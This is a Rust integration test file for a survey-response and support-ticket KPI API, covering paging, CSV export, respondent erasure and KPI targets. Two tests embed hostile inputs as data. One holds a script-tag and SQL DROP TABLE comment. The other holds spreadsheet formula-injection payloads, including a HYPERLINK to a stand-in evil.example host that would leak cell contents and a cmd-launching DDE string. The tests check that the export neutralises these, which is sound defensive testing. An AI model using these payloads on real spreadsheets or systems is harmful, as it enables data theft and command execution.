//! Data access end to end: paged raw records (`GET /v1/responses`, `GET /v1/tickets`), CSV
//! exports, erasing a respondent, and KPI targets. Expected values are worked out by hand from
//! the raw rows the API returns, never with kpi-core.
use std::collections::BTreeSet;

use serde_json::{json, Value};
use tests::*;

fn import(t: &Tenant, items: Vec<Value>) {
    let r = t.post("/v1/responses/import", &json!({ "responses": items }));
    assert_eq!(r.status, 200, "import: {}", r.text);
}

fn answer(token: &Value, score: u64, comment: Option<&str>) -> Reply {
    post_json(
        "/v1/responses",
        None,
        &json!({"token": token, "score": score, "comment": comment}),
    )
}

fn keys(rows: &[Value], id: &str) -> Vec<(String, String)> {
    rows.iter()
        .map(|r| {
            (
                r["day"].as_str().unwrap().to_string(),
                r[id].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[test]
fn paging_walks_every_row_exactly_once() {
    let t = new_tenant("page");
    let items = (0..23)
        .map(|i| {
            json!({"id": format!("r{i:02}"), "survey": "nps", "score": i % 11,
                   "at": format!("2026-03-{:02}T10:00:00+07:00", 10 + i % 4)})
        })
        .collect();
    import(&t, items);
    for limit in [1, 4, 7, 23, 500] {
        let rows = t.walk("/v1/responses", "responses", limit);
        let k = keys(&rows, "link_id");
        let unique: BTreeSet<_> = k.iter().cloned().collect();
        assert_eq!(rows.len(), 23, "limit {limit}");
        assert_eq!(unique.len(), 23, "limit {limit}: a row came twice");
        assert!(
            k.windows(2).all(|w| w[0] < w[1]),
            "limit {limit}: not in key order"
        );
    }
    // `from`/`to` are tenant-local days, both inclusive: days 11 and 12 hold 6 rows each.
    let mid = t.walk(
        "/v1/responses?from=2026-03-11&to=2026-03-12",
        "responses",
        5,
    );
    assert_eq!(mid.len(), 12);
    assert!(mid
        .iter()
        .all(|r| r["day"] == "2026-03-11" || r["day"] == "2026-03-12"));
    assert_eq!(
        t.walk("/v1/responses?survey=csat", "responses", 10).len(),
        0
    );
    let first = &t.get("/v1/responses?limit=1").json()["responses"][0];
    assert_eq!(first["link_id"], "imp:r00");
    assert_eq!(first["survey"], "nps");
    assert_eq!(first["scale"], 10);
    assert_eq!(first["score"], 0);
    assert_eq!(first["answered_at"], "2026-03-10T03:00:00.000Z");

    let tickets: Vec<Value> = (0..13)
        .map(|i| {
            json!({"id": format!("T-{i}"), "channel": "chat",
                   "opened_at": format!("2026-03-1{}T09:00:00+07:00", i % 3),
                   "tags": ["vip"]})
        })
        .collect();
    let r = t.post("/v1/tickets", &json!({ "tickets": tickets }));
    assert_eq!(r.status, 200, "{}", r.text);
    for limit in [1, 3, 13] {
        let rows = t.walk("/v1/tickets", "tickets", limit);
        let unique: BTreeSet<_> = keys(&rows, "id").into_iter().collect();
        assert_eq!((rows.len(), unique.len()), (13, 13), "limit {limit}");
    }
    let one = &t
        .get("/v1/tickets?from=2026-03-10&to=2026-03-10&limit=1")
        .json()["tickets"][0];
    assert_eq!(one["id"], "T-0");
    assert_eq!(one["opened_at"], "2026-03-10T02:00:00.000Z");
    assert_eq!(one["first_response_at"], Value::Null);
    assert_eq!(one["tags"], json!(["vip"]));
    // Never sent: unknown, not false (issue 13 item 2).
    assert_eq!(one["transferred"], Value::Null);

    for bad in [
        "limit=0",
        "limit=501",
        "limit=ten",
        "from=2026-13-01",
        "from=2026-03-12&to=2026-03-11",
        "survey=poll",
    ] {
        let r = t.get(&format!("/v1/responses?{bad}"));
        assert_eq!(r.status, 422, "{bad}: {}", r.text);
    }
    assert_eq!(t.get("/v1/responses?cursor=not-a-cursor").status, 400);
    assert_eq!(t.get("/v1/tickets?cursor=%25%25").status, 400);
    let pk = format!("Bearer {}", t.publishable_key);
    for path in [
        "/v1/responses",
        "/v1/tickets",
        "/v1/export.csv?kind=responses",
    ] {
        let r = request("GET", path, &[("authorization", &pk)], None);
        assert_eq!(r.status, 403, "{path} with pk: {}", r.text);
        assert_eq!(request("GET", path, &[], None).status, 401, "{path}");
    }
}

#[test]
fn hostile_comments_are_stored_and_returned_verbatim() {
    let t = new_tenant("verbatim");
    let link = t.mint(json!({"respondent": "cust-1"}));
    let comment = "<script>alert(1)</script> '; DROP TABLE responses; -- \"q\", a\r\nb é";
    let r = answer(&link["token"], 3, Some(comment));
    assert_eq!(r.status, 201, "{}", r.text);
    let rows = t.walk("/v1/responses", "responses", 100);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["comment"], comment);
    assert_eq!(rows[0]["respondent"], "cust-1");
    assert_eq!(rows[0]["link_id"], link["link_id"]);
    let (_, records) = parse_csv(&t.get("/v1/export.csv?kind=responses").text);
    assert_eq!(records.len(), 1);
    assert!(records[0].iter().any(|c| c == comment), "{records:?}");
}

#[test]
fn kpis_equal_a_recomputation_from_the_raw_rows() {
    let t = new_tenant("recompute");
    let r = t.post(
        "/v1/survey-links",
        &json!({"survey": "nps", "channel": "email", "count": 60}),
    );
    assert_eq!(r.status, 201, "{}", r.text);
    let links = r.json()["links"].as_array().unwrap().clone();
    let mut rng = Rng::new();
    for (i, link) in links.iter().enumerate() {
        let r = answer(&link["token"], rng.below(11), None);
        assert_eq!(r.status, 201, "{}", r.text);
        if i % 4 == 0 {
            // A second answer to the same link replaces the first.
            let r = answer(&link["token"], rng.below(11), Some("changed my mind"));
            assert_eq!(r.status, 200, "{}", r.text);
        }
    }
    let rows = t.walk("/v1/responses", "responses", 25);
    assert_eq!(rows.len(), 60);
    let score = |r: &Value| r["score"].as_i64().unwrap();
    let promoters = rows.iter().filter(|r| score(r) >= 9).count() as i64;
    let detractors = rows.iter().filter(|r| score(r) <= 6).count() as i64;
    let nps = (promoters - detractors) as f64 * 100.0 / 60.0;
    let days: BTreeSet<&str> = rows.iter().map(|r| r["day"].as_str().unwrap()).collect();
    let (from, to) = (days.first().unwrap(), days.last().unwrap());
    let k = t.kpi("nps", &format!("period=range&from={from}&to={to}"));
    assert_eq!(k["n"], 60, "{k}");
    assert_eq!(k["breakdown"]["promoters"], promoters, "{k}");
    assert_eq!(k["breakdown"]["detractors"], detractors, "{k}");
    let value = k["value"].as_f64().unwrap();
    assert!((value - nps).abs() <= 0.051, "NPS {value} vs {nps} by hand");
}

#[test]
fn csv_exports_parse_back_to_the_same_rows() {
    let t = new_tenant("export");
    let comments = [
        "plain",
        "comma, inside",
        "\"quoted\"",
        "two\nlines",
        "Dịch vụ rất tốt",
    ];
    let items = (0..30)
        .map(|i| {
            json!({"id": format!("e{i}"), "survey": if i % 2 == 0 { "nps" } else { "csat" },
                   "scale": if i % 2 == 0 { Value::Null } else { json!(5) },
                   "score": if i % 2 == 0 { i % 11 } else { 1 + i % 5 },
                   "at": format!("2026-03-{:02}T10:00:00Z", 1 + i % 20),
                   "comment": if i % 3 == 0 { Value::Null } else { json!(comments[i % 5]) },
                   "respondent": if i % 4 == 0 { Value::Null } else { json!(format!("c{i}")) }})
        })
        .collect();
    import(&t, items);
    let r = t.post(
        "/v1/tickets",
        &json!({"tickets": [
            {"id": "X1", "channel": "chat", "opened_at": "2026-03-02T09:00:00Z",
             "first_response_at": "2026-03-02T09:05:00Z", "tags": ["a", "b,c"], "agent": "Lan"},
            {"id": "X2", "channel": "phone", "opened_at": "2026-03-03T09:00:00Z", "abandoned": true}
        ]}),
    );
    assert_eq!(r.status, 200, "{}", r.text);
    for (kind, query) in [
        ("responses", ""),
        ("responses", "&from=2026-03-05&to=2026-03-09"),
        ("responses", "&survey=csat"),
        ("tickets", ""),
    ] {
        let rows = t.walk(&format!("/v1/{kind}?x=1{query}"), kind, 7);
        let r = t.get(&format!("/v1/export.csv?kind={kind}{query}"));
        assert_eq!(r.status, 200, "{kind}{query}: {}", r.text);
        assert_eq!(r.header("content-type"), Some("text/csv; charset=utf-8"));
        assert!(r
            .header("content-disposition")
            .is_some_and(|d| d.starts_with("attachment")));
        let (headers, records) = parse_csv(&r.text);
        assert_eq!(records.len(), rows.len(), "{kind}{query}");
        assert!(!rows.is_empty());
        for (rec, row) in records.iter().zip(&rows) {
            let expected: Vec<String> = headers.iter().map(|h| csv_cell(&row[h])).collect();
            assert_eq!(rec, &expected, "{kind}{query}");
        }
    }
    // One row per catalog KPI, with the values /v1/kpis reports for the same period.
    let catalog = t.get("/v1/kpis/catalog").json()["kpis"]
        .as_array()
        .unwrap()
        .len();
    let r = t.get("/v1/export.csv?kind=kpis&from=2026-03-01&to=2026-03-31");
    assert_eq!(r.status, 200, "{}", r.text);
    let (headers, records) = parse_csv(&r.text);
    assert_eq!(records.len(), catalog);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let nps_row = records.iter().find(|r| r[col("id")] == "nps").unwrap();
    let nps = t.kpi("nps", "period=range&from=2026-03-01&to=2026-03-31");
    assert_eq!(nps_row[col("n")], nps["n"].to_string());
    assert_eq!(
        nps_row[col("value")].parse::<f64>().ok(),
        nps["value"].as_f64()
    );
    assert_eq!(records[0][col("from")], "2026-03-01");
    assert_eq!(records[0][col("to")], "2026-03-31");

    assert_eq!(t.get("/v1/export.csv?kind=events").status, 422);
    assert_eq!(t.get("/v1/export.csv").status, 422);
    assert_eq!(t.send("POST", "/v1/export.csv", None).status, 405);
}

#[test]
fn erasing_a_respondent_keeps_anonymous_counts() {
    let t = new_tenant("erase");
    let who = "cust 42/é";
    for (i, score) in [10, 3, 8].into_iter().enumerate() {
        let link = t.mint(json!({"respondent": who}));
        let r = answer(&link["token"], score, Some(&format!("secret note {i}")));
        assert_eq!(r.status, 201, "{}", r.text);
    }
    let other = t.mint(json!({"respondent": "someone-else"}));
    assert_eq!(answer(&other["token"], 9, Some("keep me")).status, 201);
    let before = t.nps_now();
    assert_eq!(before["n"], 4);

    let path = "/v1/respondents/cust%2042%2F%C3%A9";
    let r = t.send("DELETE", path, None);
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.json(), json!({"erased": 3}));

    let rows = t.walk("/v1/responses", "responses", 2);
    assert_eq!(rows.len(), 4, "the rows stay, anonymised");
    let anonymous: Vec<_> = rows.iter().filter(|r| r["respondent"].is_null()).collect();
    assert_eq!(anonymous.len(), 3);
    assert!(anonymous.iter().all(|r| r["comment"].is_null()));
    assert!(rows
        .iter()
        .any(|r| r["respondent"] == "someone-else" && r["comment"] == "keep me"));
    let csv = t.get("/v1/export.csv?kind=responses").text;
    assert!(
        !csv.contains("cust 42") && !csv.contains("secret note"),
        "{csv}"
    );

    let after = t.nps_now();
    assert_eq!(after["n"], before["n"]);
    assert_eq!(after["value"], before["value"]);
    assert_eq!(after["breakdown"], before["breakdown"]);

    let again = t.send("DELETE", path, None);
    assert_eq!(again.json(), json!({"erased": 0}), "{}", again.text);
    let pk = format!("Bearer {}", t.publishable_key);
    assert_eq!(
        request("DELETE", path, &[("authorization", &pk)], None).status,
        403
    );
    assert_eq!(request("DELETE", path, &[], None).status, 401);
    assert_eq!(t.get(path).status, 405);
    assert_eq!(t.send("DELETE", "/v1/respondents/", None).status, 422);
    assert_eq!(t.send("DELETE", "/v1/respondents/%zz", None).status, 400);
}

#[test]
fn targets_decide_the_status_of_nps() {
    let t = new_tenant("targets");
    assert_eq!(t.get("/v1/targets").json(), json!({"targets": {}}));
    // Two promoters and a detractor: NPS 33.3.
    for score in [10, 9, 2] {
        let link = t.mint(json!({}));
        assert_eq!(answer(&link["token"], score, None).status, 201);
    }
    for (min, goal, status) in [
        (0.0, 30.0, "on_track"),
        (40.0, 60.0, "off_track"),
        (20.0, 60.0, "at_risk"),
    ] {
        let r = t.send(
            "PUT",
            "/v1/targets",
            Some(&json!({"targets": {"nps": {"min": min, "goal": goal}, "csat": {"min": 70, "goal": 85}}})),
        );
        assert_eq!(r.status, 200, "{}", r.text);
        let k = t.nps_now();
        assert_eq!(k["status"], status, "target {min}–{goal}: {k}");
        assert_eq!(k["target"]["min"].as_f64(), Some(min));
        assert_eq!(k["target"]["goal"].as_f64(), Some(goal));
    }
    let got = t.get("/v1/targets").json();
    assert_eq!(got["targets"]["nps"]["goal"].as_f64(), Some(60.0), "{got}");
    assert_eq!(got["targets"]["csat"]["min"].as_f64(), Some(70.0), "{got}");

    let put = |body: Value| t.send("PUT", "/v1/targets", Some(&body));
    let r = put(json!({"targets": {"no_such_kpi": {"min": 0, "goal": 1}}}));
    assert_eq!(r.status, 422, "{}", r.text);
    assert_eq!(
        put(json!({"targets": {"nps": {"min": "x", "goal": 1}}})).status,
        400
    );
    assert_eq!(put(json!({"targets": {"nps": {"min": 0}}})).status, 400);
    // A rejected write changes nothing.
    assert_eq!(t.nps_now()["status"], "at_risk");
    let pk = format!("Bearer {}", t.publishable_key);
    let body = json!({"targets": {}}).to_string();
    let r = request(
        "PUT",
        "/v1/targets",
        &[("authorization", &pk)],
        Some(("application/json", &body)),
    );
    assert_eq!(r.status, 403, "{}", r.text);
    assert_eq!(t.send("POST", "/v1/targets", Some(&json!({}))).status, 405);
}

#[test]
fn csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_and_numbers_stay_numbers() {
    let t = new_tenant("csv-formula");
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Xem\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
    ];
    // Comments are trimmed, so a leading tab or CR travels in the respondent id.
    let respondents = ["\t=1+1", "\r=1+1", "=HYPERLINK(\"x\")", "plain"];
    for (comment, who) in formulas.iter().zip(respondents) {
        let link = t.mint(json!({ "respondent": who }));
        let r = answer(&link["token"], 0, Some(comment));
        assert_eq!(r.status, 201, "{}", r.text);
    }
    let r = t.post(
        "/v1/tickets",
        &json!({"id": "+T-1", "channel": "chat", "opened_at": "2026-03-02T09:00:00Z",
                "agent": "=cmd", "tags": ["@x"]}),
    );
    assert!(r.status == 201 || r.status == 200, "{}", r.text);

    let (headers, records) = parse_csv(&t.get("/v1/export.csv?kind=responses").text);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let mut comments: Vec<&str> = records.iter().map(|r| r[col("comment")].as_str()).collect();
    comments.sort();
    let mut expected: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
    expected.sort();
    assert_eq!(comments, expected);
    let mut whos: Vec<&str> = records
        .iter()
        .map(|r| r[col("respondent")].as_str())
        .collect();
    whos.sort();
    assert_eq!(whos, ["'\t=1+1", "'\r=1+1", "'=HYPERLINK(\"x\")", "plain"]);
    assert!(records.iter().all(|r| r[col("score")] == "0"));
    // The API itself returns what was sent: the apostrophe belongs to the CSV only.
    let rows = t.walk("/v1/responses", "responses", 100);
    assert!(rows.iter().any(|r| r["comment"] == formulas[0]));

    let (headers, records) = parse_csv(&t.get("/v1/export.csv?kind=tickets").text);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    assert_eq!(records[0][col("id")], "'+T-1");
    assert_eq!(records[0][col("agent")], "'=cmd");
    assert_eq!(records[0][col("tags")], "[\"@x\"]");

    // Four detractors: NPS −100, a number, exported as one.
    let day = t.walk("/v1/responses", "responses", 100)[0]["day"]
        .as_str()
        .unwrap()
        .to_string();
    let r = t.get(&format!("/v1/export.csv?kind=kpis&from={day}&to={day}"));
    let (headers, records) = parse_csv(&r.text);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let nps = records.iter().find(|r| r[col("id")] == "nps").unwrap();
    assert_eq!(
        nps[col("value")].parse::<f64>().ok(),
        Some(-100.0),
        "{nps:?}"
    );
}
